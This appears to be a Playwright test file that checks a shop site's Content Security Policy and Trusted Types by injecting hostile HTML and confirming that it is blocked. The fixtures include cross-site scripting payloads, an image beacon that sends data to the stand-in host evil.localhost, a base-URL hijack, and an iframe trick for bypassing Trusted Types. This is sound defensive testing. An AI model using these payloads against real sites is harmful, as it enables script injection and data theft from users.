import type { Page } from '@playwright/test'
import { expect, test } from '../fixtures/test.ts'
import { readSiteMapPaths } from '../support/site-map.ts'

// Every other test fails when its page violates the policy. These tests attack it.

/** Writes HTML into every document, as an attacker could who has found a way into the text of a page. */
const injectHtml = (page: Page, html: string) =>
  page.route(
    () => true,
    async (route) => {
      if (route.request().resourceType() !== 'document') return route.fallback()
      const response = await route.fetch()
      await route.fulfill({ response, body: (await response.text()).replace('<div id="root"', `${html}$&`) })
    },
  )

/** Whether an attack of these tests has run. */
const isAttacked = (page: Page) => page.evaluate(() => 'attacked' in window)

test.beforeEach(({ pageProblems }) => pageProblems.allowPolicyViolations())

for (const [attack, html, violation] of [
  ['an injected script', '<script>window.attacked = 1</script>', 'script-src-elem inline'],
  ['an injected module', '<script type="module">window.attacked = 1</script>', 'script-src-elem inline'],
  ['an injected event handler', '<img src="/x" alt="" onerror="window.attacked = 1">', 'script-src-attr inline'],
  [
    'an injected script of another origin',
    '<script src="http://evil.localhost/x.js"></script>',
    'script-src-elem http://evil.localhost/x.js',
  ],
  [
    'an injected image that carries data away',
    '<img src="http://evil.localhost/?cart" alt="">',
    'img-src http://evil.localhost/',
  ],
  ['an injected base URL', '<base href="http://evil.localhost/">', 'base-uri http://evil.localhost/'],
  ['an injected frame', '<iframe src="http://evil.localhost/"></iframe>', 'frame-src http://evil.localhost'],
  ['an injected plug-in', '<object data="/x"></object>', 'object-src'],
  ['an injected style', '<style>body { display: none }</style>', 'style-src-elem inline'],
] as const)
  test(`${attack} is blocked, and the page works`, async ({ page, shop, pageProblems }) => {
    // The image of the event handler does not exist. The others move nothing that is not expected to move.
    pageProblems.allow(/404/)
    pageProblems.allowLayoutShifts()
    await page.route('http://evil.localhost/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = 1' }),
    )
    await injectHtml(page, html)
    await shop.open('/aide')
    await expect.poll(() => pageProblems.policyViolations.join('\n')).toContain(violation)
    expect(await isAttacked(page)).toBe(false)
    await expect(shop.heading()).toBeVisible()
  })

test('an image and a typeface of the host of a remote are blocked: no hash protects them there', async ({
  page,
  shop,
  pageProblems,
}) => {
  await shop.open('/aide')
  const fileUrl = await page.evaluate(() => {
    const urls = Object.keys(globalThis.fileHashes ?? {})
    return urls.find((url) => new URL(url).origin !== location.origin)
  })
  if (fileUrl === undefined) throw new Error('the page has no file of a remote')
  await page.evaluate(async (url) => {
    new Image().src = `${url}?image`
    await new FontFace('Attacked', `url(${url}?typeface)`).load().catch(() => undefined)
  }, fileUrl)
  const blocked = () => pageProblems.policyViolations.join('\n')
  await expect.poll(blocked).toContain(`img-src ${fileUrl}?image`)
  await expect.poll(blocked).toContain(`font-src ${fileUrl}?typeface`)
})

test('eval is blocked', async ({ page, shop, pageProblems }) => {
  await shop.open('/aide')
  // In a task of its own: the policy does not apply to what the test itself evaluates.
  const result = await page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line no-eval -- what is tested
            resolve((0, eval)('window.attacked = 1'))
          } catch (error) {
            resolve(error instanceof EvalError || error instanceof TypeError ? 'blocked' : error)
          }
        })
      }),
  )
  expect(result).toBe('blocked')
  await expect.poll(() => pageProblems.policyViolations).toContain('require-trusted-types-for trusted-types-sink')
  expect(await isAttacked(page)).toBe(false)
})

test('Trusted Types block markup, scripts and workers that code of the page writes as plain text', async ({
  page,
  shop,
  pageProblems,
}) => {
  await shop.open('/aide')
  const blocked = await page.evaluate(() => {
    const element = document.createElement('div')
    const scriptElement = document.createElement('script')
    const attempts: Record<string, () => unknown> = {
      markup: () => Object.assign(element, { innerHTML: '<img src=x onerror="window.attacked = 1">' }),
      'a script in markup': () => Object.assign(element, { innerHTML: '<script>window.attacked = 1</script>' }),
      'the URL of a script': () => Object.assign(scriptElement, { src: '/x.js' }),
      'the text of a script': () => Object.assign(scriptElement, { text: 'window.attacked = 1' }),
      'a worker': () => new Worker('/x.js'),
      'another policy': () => Object(window).trustedTypes.createPolicy('other', {}),
      'a second default policy': () => Object(window).trustedTypes.createPolicy('default', {}),
    }
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt()
        return []
      } catch (error) {
        return error instanceof TypeError ? [name] : [`${name}: ${String(error)}`]
      }
    })
  })
  expect(blocked).toEqual([
    'markup',
    'a script in markup',
    'the URL of a script',
    'the text of a script',
    'a worker',
    'another policy',
    'a second default policy',
  ])
  await expect
    .poll(() => pageProblems.policyViolations)
    .toEqual(
      expect.arrayContaining(['require-trusted-types-for trusted-types-sink', 'trusted-types trusted-types-policy']),
    )
  expect(await isAttacked(page)).toBe(false)
})

test('code that goes around Trusted Types with an empty frame registers no other service worker', async ({
  page,
  shop,
  pageProblems,
}) => {
  pageProblems.allow(/404/)
  await shop.open('/aide')
  const outcome = await page.evaluate(async () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const policy = Object(frame.contentWindow).trustedTypes.createPolicy('default', { createScriptURL: String })
    const register = (url: string) =>
      navigator.serviceWorker.register(policy.createScriptURL(url)).then(
        () => 'registered',
        (error: Error) => error.name,
      )
    return { other: await register('/evil-sw.js'), own: await register('/sw.js') }
  })
  expect(outcome).toEqual({ other: 'SecurityError', own: 'registered' })
  await expect.poll(() => pageProblems.policyViolations.join('\n')).toMatch(/worker-src \S+\/evil-sw\.js/)
})

test('no prerendered document contains a style attribute or an event handler', async ({ request }) => {
  const listed = await readSiteMapPaths(request)
  expect(listed.length).toBeGreaterThan(50)
  for (const path of [...listed, '/cart', '/checkout/7', '/commandes', '/nulle-part']) {
    const response = await request.get(path)
    expect([path, response.status()]).toEqual([path, path === '/nulle-part' ? 404 : 200])
    const body = (await response.text()).replaceAll(/<(script|style)\b.*?<\/\1>/gs, '')
    expect([path, body.match(/<[^>]*\s(?:style|on[a-z]+)=/)?.[0]]).toEqual([path, undefined])
  }
})
